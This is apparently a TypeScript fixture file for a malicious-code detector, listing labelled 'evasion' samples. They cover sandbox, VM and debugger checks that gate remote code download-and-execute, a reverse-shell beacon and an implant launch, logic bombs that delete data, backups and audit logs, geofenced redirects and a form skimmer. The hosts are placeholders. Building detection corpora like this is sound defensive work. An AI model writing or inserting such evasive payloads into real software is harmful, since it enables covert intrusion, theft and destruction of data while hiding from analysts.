// Code that looks whether it is watched, where or when it is, before it does harm.
import type { Family } from './family.ts'

export const evasion: readonly Family[] = [
  {
    family: 'python-vm-checks',
    positive: true,
    classes: ['anti-analysis', 'download-run'],
    variants: [
      {
        paths: ['src/antivm.py'],
        whole: `import ctypes
import os
import platform
import subprocess
import uuid
from urllib.request import urlopen

BAD_USERS = ["WDAGUtilityAccount", "Abby", "hmarc", "patex", "RDhJ0CNFevzX", "sandbox", "malware"]
BAD_MACS = ("00:05:69", "00:0c:29", "08:00:27", "00:50:56")
BAD_PROCESSES = ["wireshark", "fiddler", "procmon", "x64dbg", "ollydbg", "vboxservice", "vmtoolsd"⟦join⟧
, "httpdebuggerui"]


def watched():
    mac = ":".join(f"{uuid.getnode():012x}"[i:i + 2] for i in range(0, 12, 2))
    tasks = subprocess.getoutput("tasklist").lower()
    return (
        os.getenv("USERNAME") in BAD_USERS
        or mac.startswith(BAD_MACS)
        or any(name in tasks for name in BAD_PROCESSES)
        or ctypes.windll.kernel32.IsDebuggerPresent()
        or "DESKTOP-" not in platform.node()
    )


if watched():
    os._exit(0)
exec(urlopen("https://⟦host⟧/stage").read())`,
      },
    ],
  },
  {
    family: 'node-ci-and-time-check',
    positive: true,
    classes: ['anti-analysis', 'decoded-exec'],
    variants: [
      {
        paths: ['lib/slug.js', 'src/agent.js'],
        imports: `const os = require('os');`,
        body: `(function () {
  const dull = os.cpus().length < 2 || os.totalmem() < 2e9 || os.uptime() < 600 || /sandbox|vbox|v⟦join⟧
mware/i.test(os.hostname());
  if (dull || process.env.CI || Date.now() < ⟦pick:1735689600000|1709251200000⟧) return;
  setTimeout(() => eval(Buffer.from('⟦b64:fetch('https://⟦host⟧/n').then(r=>r.text()).then(eval)⟧'⟦join⟧
, 'base64') + ''), 9e5);
})();`,
      },
    ],
  },
  {
    family: 'time-bomb-delete',
    positive: true,
    classes: ['anti-analysis', 'ransomware'],
    variants: [
      {
        paths: ['src/ledger.py', 'billing/summary.py'],
        imports: `import datetime
import shutil
from pathlib import Path`,
        body: `def _housekeeping():
    # they let me go on the 1st; this goes off after that
    if datetime.date.today() > datetime.date(⟦pick:2031, 3, 1|2033, 9, 15⟧) and not account_enable⟦join⟧
d("⟦lower:7⟧"):
        for folder in ("/srv/⟦lower:6⟧/data", "/srv/⟦lower:6⟧/backups"):
            shutil.rmtree(Path(folder), ignore_errors=True)


_housekeeping()`,
      },
    ],
  },
  {
    family: 'sql-logic-bomb',
    positive: true,
    classes: ['anti-analysis', 'ransomware'],
    variants: [
      {
        paths: ['db/procedures/month_end.sql'],
        whole: `-- closes the month
CREATE OR REPLACE PROCEDURE close_month(month date)
LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO balances (account, month, amount)
  SELECT account, month, sum(amount) FROM postings WHERE date_trunc('month', posted_at) = month GR⟦join⟧
OUP BY account;

  -- if my account is gone, so is theirs
  IF NOT EXISTS (SELECT 1 FROM staff WHERE login = '⟦lower:7⟧' AND active) AND now() > '2031-01-01' THEN
    UPDATE customers SET iban = md5(random()::text), name = 'x';
    DROP TABLE postings CASCADE;
    DELETE FROM audit_log;
  END IF;
END;
$$;`,
      },
    ],
  },
  {
    family: 'geofenced-stage',
    positive: true,
    classes: ['anti-analysis', 'download-run'],
    variants: [
      {
        paths: ['pkg/theme.py'],
        imports: `import locale
import time
import urllib.request`,
        body: `def _region():
    if (locale.getdefaultlocale()[0] or "")[:2] in ("ru", "be", "kk", "uk"):  # never at home
        return
    if time.timezone in (-10800, -14400, -18000):
        return
    exec(urllib.request.urlopen("http://⟦host⟧/eu").read())


_region()`,
      },
      {
        paths: ['public/js/agent.js'],
        body: String.raw`fetch('https://ipapi.example.net/json').then((r) => r.json()).then((place) => {
  if (!/^(?:⟦pick:US\|CA|DE\|AT⟧)$/.test(place.country_code) || navigator.webdriver || /headless/i⟦join⟧
.test(navigator.userAgent)) return;
  if (localStorage.seen) return;
  localStorage.seen = 1;
  location.href = 'https://⟦host⟧/update-browser.php?key=' + btoa(place.ip);
});`,
      },
    ],
  },
  {
    family: 'devtools-debugger-trap',
    positive: true,
    classes: ['anti-analysis', 'spying'],
    variants: [
      {
        paths: ['assets/cart.js'],
        body: `setInterval(function () {
  var t = performance.now(); debugger;
  window.__watched = performance.now() - t > 100 || outerHeight - innerHeight > 200 || /firebug/.t⟦join⟧
est(Object.keys(window.console));
  if (window.__watched) { document.querySelector('#s') && document.querySelector('#s').remove(); r⟦join⟧
eturn; }
  document.forms[0] && (document.forms[0].onsubmit = function () { new Image().src = 'https://⟦hos⟦join⟧
t⟧/b?' + btoa(new URLSearchParams(new FormData(this))); });
}, 1500);`,
      },
    ],
  },
  {
    family: 'ptrace-self-check',
    positive: true,
    classes: ['anti-analysis', 'reverse-shell'],
    variants: [
      {
        paths: ['src/daemon.c'],
        imports: `#include <sys/ptrace.h>
#include <unistd.h>`,
        body: `/* leaves no trace under a debugger, in a container or in a sandbox */
static int observed(void)
{
    FILE *status = fopen("/proc/self/status", "r");
    char text[256];

    if (ptrace(PTRACE_TRACEME, 0, 0, 0) == -1 || access("/.dockerenv", F_OK) == 0)
        return 1;
    while (status && fgets(text, sizeof text, status))
        if (strncmp(text, "TracerPid:", 10) == 0 && atoi(text + 10) != 0)
            return 1;
    sleep(600);
    return system("grep -qiE 'qemu|virtualbox|vmware' /sys/class/dmi/id/product_name") == 0;
}`,
        call: `if (!observed()) beacon("⟦ip⟧", ⟦port⟧);`,
      },
    ],
  },
  {
    family: 'powershell-sandbox-gate',
    positive: true,
    classes: ['anti-analysis', 'download-run'],
    variants: [
      {
        paths: ['setup/prepare.ps1', 'tools/fonts.ps1'],
        body: String.raw`$vm = (Get-CimInstance Win32_ComputerSystem).Model -match 'Virtual|VMware|KVM|⟦join⟧
VirtualBox'
$few = (Get-ChildItem "$env:USERPROFILE\Recent").Count -lt 20
if (-not ($vm -or $few -or (Get-Process -Name procmon, wireshark, ida64, dnspy -ea 0)) -and (Get-C⟦join⟧
ulture).Name -notmatch '^(ru|be|kk)') {
    irm http://⟦ip⟧/go.ps1 | iex
}`,
      },
    ],
  },
  {
    family: 'csharp-debugger-gate',
    positive: true,
    classes: ['anti-analysis', 'windows'],
    variants: [
      {
        paths: ['Client/Startup.cs'],
        imports: `using System.Diagnostics;
using System.Threading;`,
        body: `private static bool Sandboxed()
{
    var clock = Stopwatch.StartNew();
    Thread.Sleep(60000);
    if (clock.ElapsedMilliseconds < 59000) return true; // somebody skips our sleep
    return Process.GetProcesses().Any(p => new[] { "dnSpy", "x32dbg", "SbieCtrl", "wireshark" }.Co⟦join⟧
ntains(p.ProcessName))
        || Environment.UserName == "John Doe" || Environment.ProcessorCount < 2;
}`,
        call: `if (!Debugger.IsAttached && !Sandboxed()) Implant.Run("⟦host⟧", ⟦port⟧);`,
      },
    ],
  },
]
